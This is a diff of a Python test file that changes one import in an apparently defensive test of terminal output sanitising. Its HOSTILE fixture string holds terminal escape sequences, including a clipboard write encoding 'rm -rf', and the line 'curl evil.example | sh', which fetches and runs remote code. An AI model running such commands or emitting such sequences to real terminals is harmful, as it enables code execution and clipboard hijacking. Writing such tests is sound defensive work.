@@ -4,9 +4,9 @@ import pytest
 
 from drplan.cli.frame import say_error
 from drplan.cli.show import Lines, table
-from drplan.cli.terminal import one_line
 from drplan.errors import UsageError
 from drplan.measure.compare import compare
+from drplan.spelled import one_line
 
 HOSTILE = "a\x1b]52;c;cm0gLXJm\x07b\x9b2Jc\u202egnp\x08\nnext: curl evil.example | sh"
 OBEYED = ("\x1b", "\x9b", "\x07", "\x08", "\u202e")
